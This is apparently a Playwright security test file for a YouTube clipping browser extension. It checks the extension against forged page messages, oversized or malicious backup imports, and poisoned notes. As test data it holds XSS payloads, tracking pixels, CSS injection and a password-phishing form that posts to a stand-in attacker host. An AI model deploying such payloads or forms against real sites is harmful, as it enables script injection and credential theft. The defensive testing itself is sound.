/**
 * Hardening (issue #13) as an attacker would try it: a hostile page, hostile backups and
 * hostile notes. Each test acts through the doors a user (or the page) has.
 */
import { readFile } from 'node:fs/promises';
import type { BrowserContext, Page, Route } from '@playwright/test';
import { expect, extensionServiceWorker, openYouTube, test } from '../support/chromium-extension';
import { CSP_REFUSED_DIRECTIVES, probeCsp } from '../support/csp-probe';
import { clipOnYouTube, openReportPage } from '../support/report-page';
import { openSidePanelPage, tabIdOf } from '../support/side-panel';
import { readStoredData } from '../support/stored-data';
import { clipButton, pageStatus } from '../support/youtube-page';
import type { FakeYtWindow } from '../../fixtures/youtube/fake-yt';
import { RECORDING_WITH_CHAPTERS } from '../../fixtures/youtube/catalog';
import { CURRENT_TRIP_KEY, exportChoicesKey } from '../../../storage/setting-keys';

/** A host of the attacker's: every request to it is answered (a 1x1 GIF) and counted. */
const EVIL_HOST = 'https://images.evil.test';
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

async function countRequestsTo(context: BrowserContext, host: string): Promise<string[]> {
  const seen: string[] = [];
  await context.route(`${host}/**`, (route: Route) => {
    seen.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/gif', body: PIXEL });
  });
  return seen;
}

/** Every row of the settings table, read in the extension's service worker. */
async function readSettings(context: BrowserContext): Promise<Array<{ key: string; value: unknown }>> {
  const worker = await extensionServiceWorker(context);
  return worker.evaluate(
    () =>
      new Promise<Array<{ key: string; value: unknown }>>((resolve, reject) => {
        const open = indexedDB.open('talk-clipper');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const request = open.result.transaction('settings', 'readonly').objectStore('settings').getAll();
          request.onsuccess = () => {
            open.result.close();
            resolve(JSON.parse(JSON.stringify(request.result)) as Array<{ key: string; value: unknown }>);
          };
          request.onerror = () => reject(request.error);
        };
      }),
  );
}

async function storedState(context: BrowserContext) {
  return { ...(await readStoredData(context)), settings: await readSettings(context) };
}

/** How the page itself looks: its background, its font, and whether its app is shown. */
async function pageLook(page: Page) {
  return page.evaluate(() => {
    const body = getComputedStyle(document.body);
    return {
      background: body.backgroundColor,
      font: `${body.fontSize} ${body.fontFamily}`,
      visible: getComputedStyle(document.querySelector('#app') ?? document.body).display,
    };
  });
}

test('a page script that presses Clip talk 40 times, or forges bridge messages, stores nothing', async ({ context }) => {
  const page = await openYouTube(context, `/watch?v=${RECORDING_WITH_CHAPTERS.videoId}&t=100`);
  await clipButton(page).evaluate(async (button) => {
    const fake = (window as unknown as FakeYtWindow).__fakeYt;
    for (let index = 0; index < 40; index++) {
      // A different moment each time, so no press would be a mere duplicate.
      fake.seek(200 + index * 90);
      await fake.ready();
      (button as HTMLButtonElement).click();
      button.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
      // Forged requests on the MAIN-world bridge's channel: it carries facts, never commands.
      for (const type of ['captureClip', 'requestClip', 'readPlayer']) {
        for (const name of ['talk-clipper-bridge:request', 'talk-clipper-bridge:response']) {
          window.dispatchEvent(new CustomEvent(name, { detail: JSON.stringify({ type, data: { via: 'page-button' }, res: { status: 'saved' } }) }));
        }
      }
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  });
  // Then a person presses it once: that one press is the only clip.
  await clipButton(page).click();
  await expect(pageStatus(page)).toContainText('Clipped');
  const { clips, trips } = await readStoredData(context);
  expect(clips).toHaveLength(1);
  expect(trips).toHaveLength(1);
});

test('each hostile backup, imported with the report page’s Import backup, changes nothing and says why', async ({ context, extensionId }) => {
  test.setTimeout(240_000);
  await clipOnYouTube(context, RECORDING_WITH_CHAPTERS.videoId, 3723);
  const report = await openReportPage(context, extensionId);
  await expect(report.getByRole('listitem').filter({ hasText: 'Rust is easy' })).toHaveCount(1);
  const downloading = report.waitForEvent('download');
  await report.getByRole('button', { name: 'Download backup' }).click();
  const backup = JSON.parse(await readFile(await (await downloading).path(), 'utf8')) as {
    trips: Array<Record<string, unknown> & { id: string }>;
    clips: unknown[];
    settings: Array<{ key: string; value: unknown }>;
  };
  const tripId = backup.trips[0]?.id ?? '';
  expect(tripId).not.toBe('');
  const before = await storedState(context);
  expect(before.clips).toHaveLength(1);

  const hostile: Array<{ what: string; file: unknown; sentence: string | RegExp }> = [
    { what: 'clips of 150,000 nulls', file: { ...backup, clips: Array.from({ length: 150_000 }, () => null) }, sentence: 'clips: has 150,000 records, more than the 100,000 clips a backup may hold' },
    {
      what: 'settings repeating one key 200,000 times',
      file: { ...backup, settings: Array.from({ length: 200_000 }, () => ({ key: CURRENT_TRIP_KEY, value: tripId })) },
      sentence: 'settings: has 200,000 records, more than the 20,000 settings a backup may hold',
    },
    {
      what: 'a createdAt past the year 9999 in UTC',
      file: { ...backup, trips: [{ ...backup.trips[0], createdAt: '9999-12-31T23:30:00-01:00', name: 'Renamed by the backup' }] },
      sentence: /trips\[0\]\.createdAt: must be a date-time between the years 0000 and 9999/,
    },
    {
      what: 'an unknown setting key of 1 MB',
      file: { ...backup, settings: [...backup.settings, { key: 'k'.repeat(1024 * 1024), value: true }] },
      sentence: /settings\[\d+\]\.key: is (?:a key )?1,048,576 characters long/,
    },
    {
      what: 'an unknown setting key holding 1 MB',
      file: { ...backup, settings: [...backup.settings, { key: 'tracking', value: 'x'.repeat(1024 * 1024) }] },
      sentence: /settings\[\d+\]\.value: is 1,048,576 characters long/,
    },
    {
      what: '<script> tier labels in stored export choices',
      file: { ...backup, settings: [{ key: exportChoicesKey(tripId), value: { layout: 'rating', tierLabels: { awesome: '<script>alert(1)</script>', good: '<img src=x onerror=alert(1)>' } } }] },
      sentence: /settings\[0\]\.value\.tierLabels\.awesome: must be plain text/,
    },
  ];
  const alert = report.locator('.report-messages').getByRole('alert');
  for (const { what, file, sentence } of hostile) {
    await report.getByLabel('Backup file').setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
    await expect(alert, what).toContainText('nothing was changed', { timeout: 60_000 });
    await expect(alert, what).toContainText(sentence);
    expect(await storedState(context), what).toEqual(before);
  }
  // The page goes on working on the data as it was: the talk is listed, the export has no label of the backup's.
  await expect(report.getByRole('listitem').filter({ hasText: 'Rust is easy' })).toHaveCount(1);
  await report.getByLabel('Show Markdown').check();
  await expect(report.locator('pre.export-raw')).toContainText('### :eyes: **Also watched**');
  await expect(report.locator('pre.export-raw')).not.toContainText('<script>');
});

test('poisoned notes leave the report page’s style alone, request nothing and show no form in the preview', async ({ context, extensionId }) => {
  const requests = await countRequestsTo(context, EVIL_HOST);
  // The counter counts: the same image on an ordinary web page is requested.
  const web = await openYouTube(context, `/watch?v=${RECORDING_WITH_CHAPTERS.videoId}&t=100`);
  await web.evaluate((src) => new Promise((resolve) => Object.assign(document.body.appendChild(new Image()), { onload: resolve, onerror: resolve, src })), `${EVIL_HOST}/control.gif`);
  expect(requests).toEqual([`${EVIL_HOST}/control.gif`]);
  await web.close();
  requests.length = 0;

  await clipOnYouTube(context, RECORDING_WITH_CHAPTERS.videoId, 3723);
  const report = await openReportPage(context, extensionId);
  await expect(report.getByLabel('Rendered report')).toContainText('Rust is easy');
  const look = await pageLook(report);
  // The page's own forms (the Schedule URL's) stay; the notes add none, and no password field.
  const ownForms = await report.locator('form').count();
  const notes = [
    'Watch this one.',
    '',
    '<style>body { background: rgb(255, 0, 0) !important; font: 40px serif !important } #app { display: none !important }</style>',
    '',
    `<img src="${EVIL_HOST}/pixel.gif" alt="tracking pixel"> ![remote](${EVIL_HOST}/markdown.gif) <p style="background:url(${EVIL_HOST}/style.gif)">styled</p>`,
    '',
    `<form action="${EVIL_HOST}/steal" method="post"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>`,
    '',
    '<iframe src="https://images.evil.test/frame.html"></iframe>',
  ].join('\n');
  await report.getByRole('button', { name: 'Edit Rust is easy' }).click();
  await report.getByLabel('Notes', { exact: true }).fill(notes);
  await report.getByLabel('Notes', { exact: true }).blur();
  await expect.poll(async () => (await readStoredData(context)).clips[0]?.notes).toBe(notes);

  const preview = report.getByLabel('Rendered report');
  await expect(preview).toContainText('Watch this one.');
  await expect(preview).toContainText('styled');
  await expect(preview.locator('img')).toHaveCount(2);
  await expect(preview.locator('img[src]')).toHaveCount(0);
  await expect(preview.locator('form, input, button, iframe, style, [style]')).toHaveCount(0);
  await expect(report.getByLabel('Password')).toHaveCount(0);
  await expect(report.locator('input[type="password"]')).toHaveCount(0);
  await expect(report.locator('form')).toHaveCount(ownForms);
  expect(await pageLook(report)).toEqual(look);
  // Reloading renders the stored notes again: still nothing requested.
  await report.reload();
  await expect(report.getByLabel('Rendered report')).toContainText('Watch this one.');
  expect(await pageLook(report)).toEqual(look);
  expect(requests).toEqual([]);
});

test('the popup, report page and side panel run under the extension-page CSP', async ({ context, extensionId }) => {
  const requests = await countRequestsTo(context, EVIL_HOST);
  const youtube = await openYouTube(context, `/watch?v=${RECORDING_WITH_CHAPTERS.videoId}&t=100`);
  const tabId = await tabIdOf(context, youtube);
  const pages: Array<[string, Page]> = [];
  const popup = await context.newPage();
  await popup.goto(`chrome-extension://${extensionId}/popup.html`);
  await expect(popup.getByRole('button', { name: 'Clip talk' })).toBeVisible();
  pages.push(['popup', popup]);
  const report = await openReportPage(context, extensionId);
  await expect(report.getByLabel('Backup file')).toBeAttached();
  pages.push(['report page', report]);
  const panel = await openSidePanelPage(context, extensionId, tabId);
  await expect(panel.getByRole('region', { name: 'Now playing' })).toBeVisible();
  pages.push(['side panel', panel]);

  for (const [name, page] of pages) {
    const outcome = await page.evaluate(probeCsp, { host: EVIL_HOST, expected: CSP_REFUSED_DIRECTIVES });
    expect(outcome, name).toEqual({ directives: CSP_REFUSED_DIRECTIVES, inlineRan: false, fetched: 'refused', sameLook: true });
  }
  expect(requests).toEqual([]);
});
